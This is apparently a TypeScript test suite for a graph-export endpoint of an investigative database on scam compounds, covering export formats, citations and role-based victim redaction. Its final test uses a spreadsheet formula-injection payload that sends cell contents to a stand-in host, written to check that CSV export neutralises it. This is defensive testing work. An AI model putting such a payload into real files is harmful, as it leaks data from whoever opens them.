import { XMLParser } from 'fast-xml-parser';
import { parse as parseCsv } from 'csv-parse/sync';
import { startTestServer, type TestServer } from '../helpers/testServer';

const RIVERBEND = 'compound:demo-riverbend-park';
const JADE = 'compound:demo-jade-harbour';
const BLUEWATER = 'organisation:demo-bluewater-holdings';
const RED_CRANE = 'organisation:demo-red-crane-network';
const ALPHA = 'person:demo-broker-alpha';
/** A transfer from Riverbend to Jade Harbour that two sources cite. */
const V3_TRANSFER = 'event:demo-2023-11-transfer';
const BOTH_SOURCES = ['source:demo-synthetic', 'source:demo-synthetic-casefile-b'];
const VICTIM_NAME_MARK = 'Demo Victim';
const VICTIMS = ['person:demo-victim-0001', 'person:demo-victim-0002', 'person:demo-victim-0003', 'person:demo-victim-0004', 'person:demo-victim-0005'];

interface SliceNode {
  id: string;
  label: string;
  type: string;
  properties: Record<string, unknown>;
}
interface SliceEdge {
  id: string;
  source: string;
  target: string;
  type: string;
  label: string;
  properties: Record<string, unknown>;
}
interface Slice {
  truncated: boolean;
  nodes: SliceNode[];
  edges: SliceEdge[];
  cytoscape: { group: string; data: Record<string, unknown> }[];
}

/** How every export writes a property value: text as is, numbers and booleans as text, lists as JSON. */
const asText = (value: unknown): string => (typeof value === 'string' ? value : typeof value === 'number' || typeof value === 'boolean' ? String(value) : JSON.stringify(value));
const textProps = (props: Record<string, unknown>) => Object.fromEntries(Object.entries(props).map(([k, v]) => [k, asText(v)]));

const xmlParser = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '',
  parseTagValue: false,
  parseAttributeValue: false,
  isArray: (name, _path, _leaf, isAttribute) => !isAttribute && ['key', 'node', 'edge', 'data', 'attribute', 'attributes', 'attvalue'].includes(name),
});

/** A GraphML file read back into slice shape (values as text). */
function readGraphML(body: string) {
  const doc = xmlParser.parse(body);
  const graph = doc.graphml.graph;
  const keys = new Map<string, string>(doc.graphml.key.map((k: any) => [k.id, k['attr.name']]));
  const values = (data: any[] = []) => Object.fromEntries(data.map((d) => [keys.get(d.key), d['#text'] ?? '']));
  return {
    edgedefault: graph.edgedefault,
    nodes: (graph.node ?? []).map((n: any) => {
      const { label, type, ...properties } = values(n.data);
      return { id: n.id, label, type, properties };
    }),
    edges: (graph.edge ?? []).map((e: any) => {
      const { label, type, ...properties } = values(e.data);
      return { id: e.id, source: e.source, target: e.target, type, label, properties };
    }),
  };
}

/** A GEXF file read back into slice shape (values as text). */
function readGEXF(body: string) {
  const doc = xmlParser.parse(body);
  const graph = doc.gexf.graph;
  const values = (n: any) => Object.fromEntries((n.attvalues?.attvalue ?? []).map((a: any) => [a.for, a.value]));
  return {
    version: doc.gexf.version,
    defaultedgetype: graph.defaultedgetype,
    nodes: (graph.nodes?.node ?? []).map((n: any) => {
      const { type, ...properties } = values(n);
      return { id: n.id, label: n.label, type, properties };
    }),
    edges: (graph.edges?.edge ?? []).map((e: any) => {
      const { type, ...properties } = values(e);
      return { id: e.id, source: e.source, target: e.target, type, label: e.label, properties };
    }),
  };
}

describe('GET /export/network', () => {
  let t: TestServer;
  let investigator: string;
  let journalist: string;
  beforeAll(async () => {
    t = await startTestServer({ datasets: ['demo'] });
    investigator = await t.keyFor('investigator');
    journalist = await t.keyFor('journalist');
  });
  afterAll(() => t.close());

  async function slice(vars: Record<string, unknown>, key?: string): Promise<Slice> {
    const res = await t.graphql(
      `query ($ids: [ID!]!, $depth: Int, $events: Boolean) { network(ids: $ids, depth: $depth, includeEvents: $events) {
        truncated nodes { id label type properties } edges { id source target type label properties } cytoscape } }`,
      vars,
      key ? { key } : {},
    );
    expect(res.errors).toBeUndefined();
    return res.data?.network as Slice;
  }

  async function download(query: string, key?: string) {
    const res = await fetch(`${t.url}/export/network?${query}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
    if (res.status === 200) expect(res.headers.get('cache-control')).toBe('no-store');
    return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), truncated: res.headers.get('x-truncated'), body: await res.text() };
  }

  const asTextSlice = (s: Slice) => ({
    nodes: s.nodes.map((n) => ({ ...n, properties: textProps(n.properties) })),
    edges: s.edges.map((e) => ({ ...e, properties: textProps(e.properties) })),
  });

  it('exports Cytoscape JSON whose elements are the GraphQL slice', async () => {
    const expected = await slice({ ids: [RIVERBEND, JADE], depth: 1 });
    const file = await download(`ids=${RIVERBEND},${JADE}&depth=1&format=cytoscape`);
    expect(file).toMatchObject({ status: 200, type: 'application/json; charset=utf-8', disposition: 'attachment; filename="network.cyjs"', truncated: 'false' });
    const doc = JSON.parse(file.body);
    expect(doc.format_version).toBe('1.0');
    expect(doc.elements).toEqual({
      nodes: expected.cytoscape.filter((e) => e.group === 'nodes').map((e) => ({ data: e.data })),
      edges: expected.cytoscape.filter((e) => e.group === 'edges').map((e) => ({ data: e.data })),
    });
    // Riverbend's operators and staff, Jade Harbour's operator, protector and staff, and the two compounds.
    expect(expected.nodes.map((n) => n.id)).toEqual([
      JADE, RIVERBEND, 'organisation:demo-bluewater-holdings', 'organisation:demo-bluewater-security', 'organisation:demo-red-crane-network',
      'person:demo-broker-alpha', 'person:demo-broker-bravo', 'person:demo-guard-india', 'person:demo-guard-juliet', 'person:demo-recruiter-delta',
    ]);
  });

  it('exports GraphML that parses back to the GraphQL slice', async () => {
    const expected = await slice({ ids: [RIVERBEND, JADE], depth: 1 });
    const file = await download(`ids=${RIVERBEND},${JADE}&depth=1&format=graphml`);
    expect(file).toMatchObject({ status: 200, type: 'application/graphml+xml; charset=utf-8', disposition: 'attachment; filename="network.graphml"' });
    expect(file.body.startsWith('<?xml version="1.0" encoding="UTF-8"?>')).toBe(true);
    expect(readGraphML(file.body)).toEqual({ edgedefault: 'directed', ...asTextSlice(expected) });
  });

  it('exports GEXF 1.3 that parses back to the GraphQL slice', async () => {
    const expected = await slice({ ids: [RIVERBEND, JADE], depth: 1 });
    const file = await download(`ids=${RIVERBEND},${JADE}&depth=1&format=gexf`);
    expect(file).toMatchObject({ status: 200, type: 'application/gexf+xml; charset=utf-8', disposition: 'attachment; filename="network.gexf"' });
    expect(readGEXF(file.body)).toEqual({ version: '1.3', defaultedgetype: 'directed', ...asTextSlice(expected) });
  });

  it('exports CSV node and edge tables in Gephi spreadsheet columns that parse back to the GraphQL slice', async () => {
    const expected = asTextSlice(await slice({ ids: [RIVERBEND, JADE], depth: 1 }));
    const nodes = await download(`ids=${RIVERBEND},${JADE}&depth=1&format=csv`);
    expect(nodes).toMatchObject({ status: 200, type: 'text/csv; charset=utf-8', disposition: 'attachment; filename="network.nodes.csv"' });
    const nodeRows = parseCsv(nodes.body, { columns: true }) as Record<string, string>[];
    expect(nodeRows.map(({ Id, Label, NodeType, ...props }) => ({ id: Id, label: Label, type: NodeType, properties: Object.fromEntries(Object.entries(props).filter(([, v]) => v !== '')) }))).toEqual(expected.nodes);
    const edges = await download(`ids=${RIVERBEND},${JADE}&depth=1&format=csv&table=edges`);
    const edgeRows = parseCsv(edges.body, { columns: true }) as Record<string, string>[];
    expect(edgeRows.every((r) => r.Type === 'Directed')).toBe(true);
    expect(
      edgeRows.map(({ Source, Target, Type: _type, Id, Label, Relation, ...props }) => ({
        id: Id, source: Source, target: Target, type: Relation, label: Label, properties: Object.fromEntries(Object.entries(props).filter(([, v]) => v !== '')),
      })),
    ).toEqual(expected.edges);
  });

  it('exports, as a third CSV table, every source the node and edge tables cite, with what a citation needs', async () => {
    const expected = await slice({ ids: [RIVERBEND, JADE], depth: 1 }, journalist);
    const cited = [...new Set([...expected.nodes, ...expected.edges].flatMap((e) => (e.properties.sources as string[] | undefined) ?? []))].sort();
    expect(cited.length).toBeGreaterThan(1);
    const file = await download(`ids=${RIVERBEND},${JADE}&depth=1&format=csv&table=sources`, journalist);
    expect(file).toMatchObject({ status: 200, type: 'text/csv; charset=utf-8', disposition: 'attachment; filename="network.sources.csv"' });
    const rows = parseCsv(file.body, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.Id)).toEqual(cited);
    // Each row is the source as the database holds it.
    const stored = await t.cypher<Record<string, string | null>>(
      'MATCH (s:Source) WHERE s.id IN $ids RETURN s.id AS Id, s.title AS Title, coalesce(s.publisher, "") AS Publisher, coalesce(s.url, "") AS URL, coalesce(s.published, "") AS Published, coalesce(s.retrieved, "") AS Retrieved, coalesce(s.reliability, "") AS Reliability ORDER BY s.id',
      { ids: cited },
    );
    expect(rows).toEqual(stored);
    expect(rows.every((r) => r.Title !== '')).toBe(true);
    // The table is CSV's alone: another format holds nodes and edges together, and says so.
    const refused = await download(`ids=${RIVERBEND}&format=graphml&table=sources`, journalist);
    expect(refused.status).toBe(400);
    expect(JSON.parse(refused.body).error).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'table' });
  });

  it('exports depth 0 in every format: the start nodes alone and the edges among them', async () => {
    const ids = [RIVERBEND, BLUEWATER, RED_CRANE];
    const expected = await slice({ ids, depth: 0 });
    expect(expected.nodes.map((n) => n.id)).toEqual(ids);
    expect(expected.edges.map((e) => e.id)).toEqual([`${BLUEWATER}|AFFILIATED_WITH|${RED_CRANE}`, `${BLUEWATER}|OPERATES|${RIVERBEND}`, `${RED_CRANE}|OPERATES|${RIVERBEND}`]);
    const query = (format: string, table = 'nodes') => `ids=${ids.join(',')}&depth=0&format=${format}&table=${table}`;
    const cytoscape = await download(query('cytoscape'));
    expect({ status: cytoscape.status, truncated: cytoscape.truncated }).toEqual({ status: 200, truncated: 'false' });
    expect(JSON.parse(cytoscape.body).elements).toEqual({
      nodes: expected.cytoscape.filter((e) => e.group === 'nodes').map((e) => ({ data: e.data })),
      edges: expected.cytoscape.filter((e) => e.group === 'edges').map((e) => ({ data: e.data })),
    });
    const graphml = await download(query('graphml'));
    expect(graphml.status).toBe(200);
    expect(readGraphML(graphml.body)).toEqual({ edgedefault: 'directed', ...asTextSlice(expected) });
    const gexf = await download(query('gexf'));
    expect(gexf.status).toBe(200);
    expect(readGEXF(gexf.body)).toEqual({ version: '1.3', defaultedgetype: 'directed', ...asTextSlice(expected) });
    const nodes = await download(query('csv'));
    expect(nodes.status).toBe(200);
    expect((parseCsv(nodes.body, { columns: true }) as Record<string, string>[]).map((r) => r.Id)).toEqual(ids);
    const edges = await download(query('csv', 'edges'));
    expect(edges.status).toBe(200);
    expect((parseCsv(edges.body, { columns: true }) as Record<string, string>[]).map((r) => r.Id)).toEqual(expected.edges.map((e) => e.id));
  });

  it("cites an event's sources on its edges to compounds and participants in every format", async () => {
    const ids = [V3_TRANSFER, RIVERBEND, JADE, ALPHA];
    const cited = { sources: BOTH_SOURCES };
    const expected = await slice({ ids, depth: 0, events: true });
    expect(expected.edges.filter((e) => e.source === V3_TRANSFER).map((e) => ({ id: e.id, properties: e.properties }))).toEqual([
      { id: `${V3_TRANSFER}|FROM|${RIVERBEND}`, properties: cited },
      { id: `${V3_TRANSFER}|INVOLVES|${ALPHA}|broker`, properties: { role: 'broker', ...cited } },
      { id: `${V3_TRANSFER}|TO|${JADE}`, properties: cited },
    ]);
    const query = (format: string, table = 'nodes') => `ids=${ids.join(',')}&depth=0&events=true&format=${format}&table=${table}`;
    const cytoscape = JSON.parse((await download(query('cytoscape'))).body);
    const link = (type: string) => `${V3_TRANSFER}|${type}|${type === 'FROM' ? RIVERBEND : JADE}`;
    expect(cytoscape.elements.edges.filter((e: any) => [link('FROM'), link('TO')].includes(e.data.id)).map((e: any) => e.data.sources)).toEqual([BOTH_SOURCES, BOTH_SOURCES]);
    const asFiled = JSON.stringify(BOTH_SOURCES);
    const graphml = readGraphML((await download(query('graphml'))).body);
    expect(graphml.edges.filter((e: any) => e.source === V3_TRANSFER).map((e: any) => [e.id, e.properties.sources])).toEqual([
      [link('FROM'), asFiled], [`${V3_TRANSFER}|INVOLVES|${ALPHA}|broker`, asFiled], [link('TO'), asFiled],
    ]);
    const gexf = readGEXF((await download(query('gexf'))).body);
    expect(gexf.edges).toEqual(asTextSlice(expected).edges);
    const rows = parseCsv((await download(query('csv', 'edges'))).body, { columns: true }) as Record<string, string>[];
    expect(rows.filter((r) => r.Source === V3_TRANSFER).map((r) => [r.Id, r.sources])).toEqual([
      [link('FROM'), asFiled], [`${V3_TRANSFER}|INVOLVES|${ALPHA}|broker`, asFiled], [link('TO'), asFiled],
    ]);
  });

  describe('victim protection in every format', () => {
    const query = (format: string, table = 'nodes') => `ids=${JADE}&depth=2&events=true&format=${format}&table=${table}`;
    const formats: [string, string?][] = [['cytoscape'], ['graphml'], ['gexf'], ['csv', 'nodes'], ['csv', 'edges']];

    it('gives investigators the victims with their identity', async () => {
      for (const [format, table] of formats) {
        const file = await download(query(format, table), investigator);
        // The edge table names no node, so only the node-bearing files carry names.
        const named = table !== 'edges';
        expect({ format, table, status: file.status, named: file.body.includes(VICTIM_NAME_MARK), victims: VICTIMS.every((id) => file.body.includes(id)) }).toEqual({
          format, table, status: 200, named, victims: true,
        });
      }
    });

    it('gives journalists the victims under their pseudonyms only', async () => {
      const expected = await slice({ ids: [JADE], depth: 2, events: true }, journalist);
      const pseudonyms = expected.nodes.filter((n) => VICTIMS.includes(n.id)).map((n) => n.label);
      expect(pseudonyms).toHaveLength(5);
      for (const [format, table] of formats) {
        const file = await download(query(format, table), journalist);
        expect(file.status).toBe(200);
        expect({ format, table, named: file.body.includes(VICTIM_NAME_MARK) }).toEqual({ format, table, named: false });
        for (const id of VICTIMS) expect({ format, id, present: file.body.includes(id) }).toEqual({ format, id, present: true });
      }
      const graphml = readGraphML((await download(query('graphml'), journalist)).body);
      expect(graphml.nodes).toEqual(asTextSlice(expected).nodes);
      for (const node of graphml.nodes.filter((n: any) => VICTIMS.includes(n.id))) {
        expect(node.label).toBe(node.properties.pseudonym);
        expect(Object.keys(node.properties).sort()).toEqual(['ageBand', 'dataset', 'isVictim', 'pseudonym', 'roles', 'sources', 'synthetic']);
      }
      const gexf = readGEXF((await download(query('gexf'), journalist)).body);
      expect(gexf.nodes.filter((n: any) => VICTIMS.includes(n.id)).map((n: any) => n.label).sort()).toEqual([...pseudonyms].sort());
    });

    it('leaves victims and their edges out for the public', async () => {
      const expected = await slice({ ids: [JADE], depth: 2, events: true });
      expect(expected.nodes.filter((n) => n.id.includes('victim'))).toEqual([]);
      for (const [format, table] of formats) {
        const file = await download(query(format, table));
        expect(file.status).toBe(200);
        expect({ format, table, victims: file.body.includes('person:demo-victim'), named: file.body.includes(VICTIM_NAME_MARK) }).toEqual({ format, table, victims: false, named: false });
      }
      const gexf = readGEXF((await download(query('gexf'))).body);
      expect({ nodes: gexf.nodes, edges: gexf.edges }).toEqual(asTextSlice(expected));
      const onlyVictim = await download(`ids=person:demo-victim-0001&events=true&format=csv`);
      expect(parseCsv(onlyVictim.body, { columns: true })).toEqual([]);
    });

    it('answers depth 0 for a hidden victim exactly as for an id that names nothing, and shows journalists the pseudonym', async () => {
      for (const [format, table = 'nodes'] of formats) {
        const hidden = await download(`ids=${JADE},${VICTIMS[0]}&depth=0&events=true&format=${format}&table=${table}`);
        const absent = await download(`ids=${JADE},person:demo-victim-9999&depth=0&events=true&format=${format}&table=${table}`);
        expect({ format, table, status: hidden.status, body: hidden.body }).toEqual({ format, table, status: 200, body: absent.body });
        // Jade Harbour alone: its node, and no edge.
        expect({ format, table, jade: hidden.body.includes(JADE) }).toEqual({ format, table, jade: table === 'nodes' });
      }
      const expected = await slice({ ids: [JADE, VICTIMS[0]], depth: 0, events: true }, journalist);
      expect(expected.nodes.map((n) => [n.id, n.label.startsWith('Victim ')])).toEqual([[JADE, false], [VICTIMS[0], true]]);
      const gexf = readGEXF((await download(`ids=${JADE},${VICTIMS[0]}&depth=0&events=true&format=gexf`, journalist)).body);
      expect({ nodes: gexf.nodes, edges: gexf.edges }).toEqual(asTextSlice(expected));
    });
  });

  describe('errors', () => {
    it.each([
      ['format', 'ids=compound:demo-jade-harbour&format=xml'],
      ['depth', 'ids=compound:demo-jade-harbour&depth=4'],
      ['limit', 'ids=compound:demo-jade-harbour&limit=5001'],
      ['ids', 'depth=1'],
      ['ids', 'ids=not-an-id'],
      ['depth', 'ids=compound:demo-jade-harbour&depth=two'],
      ['bogus', 'ids=compound:demo-jade-harbour&bogus=1'],
      ['ids', 'ids=compound:demo-jade-harbour&ids=compound:demo-cloudgate'],
    ])('answers 400 naming %s for %s', async (argument, query) => {
      const file = await download(query);
      expect(file.status).toBe(400);
      expect(JSON.parse(file.body)).toEqual({ error: { code: 'BAD_USER_INPUT', message: expect.stringContaining(`"${argument}"`), argument } });
    });

    it('takes an empty parameter as none, as the README writes the URL (asOf=&types=)', async () => {
      const written = await download(`ids=${JADE}&depth=1&limit=500&asOf=&types=&events=true&format=cytoscape&table=`);
      const plain = await download(`ids=${JADE}&depth=1&limit=500&events=true&format=cytoscape`);
      expect(written.status).toBe(200);
      expect(written.body).toBe(plain.body);
    });

    it('answers 401 for an unknown API key', async () => {
      const file = await download(`ids=${JADE}`, 'tg_this-key-does-not-exist-000000');
      expect(file.status).toBe(401);
      expect(JSON.parse(file.body).error.code).toBe('UNAUTHENTICATED');
    });

    it('marks a cut neighbourhood as truncated', async () => {
      const file = await download(`ids=${JADE}&depth=2&limit=2&format=cytoscape`);
      expect(file.truncated).toBe('true');
      expect(JSON.parse(file.body).data.truncated).toBe(true);
      expect(JSON.parse(file.body).elements.nodes).toHaveLength(2);
    });
  });

  // Last in the file: it adds an organisation (with no relationships, so no other slice changes).
  it('writes a name that a spreadsheet would run as a formula as text in the CSV, and as it is elsewhere', async () => {
    const name = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")';
    const id = 'organisation:test-formula-name';
    const created = await t.graphql<any>(
      'mutation($input: JSON!) { createEntity(kind: ORGANISATION, input: $input) { entityIds } }',
      { input: { id, name, kind: 'criminal_conglomerate', sources: ['source:demo-synthetic'] } },
      { key: investigator },
    );
    expect(created.errors).toBeUndefined();
    const csv = await download(`ids=${id}&depth=1&format=csv`);
    expect(csv.status).toBe(200);
    const [row] = parseCsv(csv.body, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ Id: id, Label: `'${name}` });
    expect(csv.body).not.toMatch(/(^|,)=HYPERLINK/m);
    // Formats no spreadsheet runs keep the name exactly.
    const cytoscape = await download(`ids=${id}&depth=1&format=cytoscape`);
    expect(JSON.parse(cytoscape.body).elements.nodes[0].data.label).toBe(name);
  });
});
